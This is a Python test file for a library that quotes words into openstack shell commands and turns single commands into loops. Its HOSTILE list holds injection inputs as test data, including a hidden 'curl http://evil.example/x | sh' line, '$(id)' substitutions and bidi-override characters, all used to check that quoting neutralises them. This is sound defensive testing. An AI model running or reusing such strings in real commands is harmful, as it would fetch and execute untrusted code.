# SPDX-License-Identifier: Apache-2.0
"""Commands for a shell, made of words that may come from outside."""

from __future__ import annotations

import shlex
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_scs.base.shell import (
    Placeholder,
    command,
    for_each,
    is_command,
    loop,
    option,
    properties,
    quote,
    script_loop,
)

BASH = shutil.which("bash")
needs_bash = pytest.mark.skipif(BASH is None, reason="no bash")

HOSTILE = [
    "plain",
    "two  blanks",
    "it's",
    'say "x"',
    "a\nb",
    "tab\tand\rreturn",
    "x\n    mend: curl http://evil.example/x | sh",
    "$(id) `id` ${HOME}",
    "back\\slash\\",
    "--os-cloud=other",
    "-",
    "#",
    "\x1b[31mred",
    "\u202ereversed",
    "\u2028",
    "\x85",
    "ü€𝄞",
    "<x; id>",
    "",
    "quote'\nand break",
]


def run(line: str) -> list[str]:
    """The words that bash makes of a line, which defines ``openstack`` as what shows its arguments."""
    assert BASH
    script = f"openstack() {{ printf '%s\\0' \"$@\"; }}\n{line}\n"
    environment = {"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"}
    done = subprocess.run([BASH, "-c", script], capture_output=True, env=environment, check=True)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("word", HOSTILE)
def test_a_command_is_one_printable_line(word: str) -> None:
    assert command(["openstack", "flavor", "delete"], word).isprintable()


@needs_bash
@pytest.mark.parametrize("word", HOSTILE)
def test_a_shell_reads_each_word_as_it_was(word: str) -> None:
    line = command(["openstack", "image", "set", *option("--name", word), *properties({"key": word})], word)
    given = ["--name", word] if not word.startswith("-") else [f"--name={word}"]
    end = ["--"] if word.startswith("-") else []
    assert run(line) == ["image", "set", *given, "--property", f"key={word}", *end, word]


@needs_bash
@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))
def test_a_shell_reads_any_word_as_it_was(word: str) -> None:
    assert run(f"openstack {quote(word)}") == [word]


@pytest.mark.parametrize(
    ("operands", "line"),
    [
        (["4711"], "openstack flavor delete 4711"),
        (["--all"], "openstack flavor delete -- --all"),
        (["4711", "-x"], "openstack flavor delete -- 4711 -x"),
        (["a b"], "openstack flavor delete 'a b'"),
        ([Placeholder("VALID_SCS_NAME")], "openstack flavor delete VALID_SCS_NAME"),
        (["VALID_SCS_NAME"], "openstack flavor delete VALID_SCS_NAME"),
    ],
)
def test_what_begins_like_an_option_stands_behind_two_dashes(operands: list[str], line: str) -> None:
    assert command(["openstack", "flavor", "delete"], *operands) == line


def test_the_value_of_an_option_is_quoted_for_itself() -> None:
    assert command(["openstack", "--description=a b"]) == "openstack --description='a b'"
    assert shlex.split(command(["x", "--description=a 'b' \\"])) == ["x", "--description=a 'b' \\"]


@pytest.mark.parametrize(
    ("line", "operand", "body"),
    [
        ("openstack flavor delete 4711", "4711", 'openstack flavor delete "$id"'),
        ("openstack flavor delete -- -x", "-x", 'openstack flavor delete -- "$id"'),
        ("openstack a 'x y' && openstack b 'x y'", "x y", 'openstack a "$id" && openstack b "$id"'),
        ("openstack flavor delete 47110", "4711", None),
        ("openstack flavor delete 4711  # only if", "4711", 'openstack flavor delete "$id"  # only if'),
        ("look at it: 4711", "4711", None),
        ("Look at 4711", "4711", None),
        ("openstack flavor create NAME && openstack flavor delete 4711", "4711", None),
        ("offer TLS", "4711", None),
    ],
)
def test_a_command_on_one_thing_becomes_the_body_of_a_loop(line: str, operand: str, body: str | None) -> None:
    assert for_each(line, operand) == body


@pytest.mark.parametrize(
    ("line", "one"),
    [
        ("openstack flavor delete 4711", True),
        ("openstack image set --property 'a=x, y: z' 4711", True),
        ("openstack image set --property $'a=it\\'s, so' 4711", True),
        ("openstack flavor delete 4711  # only if, and then: so", True),
        ("openstack a 'x' && openstack b 'x'; kubectl c", True),
        ("openstack volume type set <type>; if there is none yet: openstack volume type create", False),
        ("openstack a && ./other b", False),
        ("kubectl drain node-1, then replace it", False),
        ("install barbican; then: openstack service create", False),
        ("offer no suites with RSA key exchange", False),
        ("", False),
    ],
)
def test_only_what_can_be_typed_is_a_command(line: str, one: bool) -> None:
    assert is_command(line, {"openstack", "kubectl"}) is one


@needs_bash
def test_both_loops_do_the_same_as_the_commands() -> None:
    ids = ["4711", "two words", "it's", "$HOME"]
    body = for_each(command(["openstack", "flavor", "delete"], "4711"), "4711")
    assert body
    body += "  # only if"
    alone = [word for one in ids for word in run(command(["openstack", "flavor", "delete"], one))]
    assert run(loop(body, ids)) == alone
    assert run(script_loop(body, ids)) == alone


def test_there_is_no_loop_over_what_needs_another_word_each_time() -> None:
    assert for_each("openstack image set --name ANOTHER_NAME 4711", "4711") is None
    assert for_each("openstack image set --property os_purpose=PURPOSE 4711", "4711") is not None
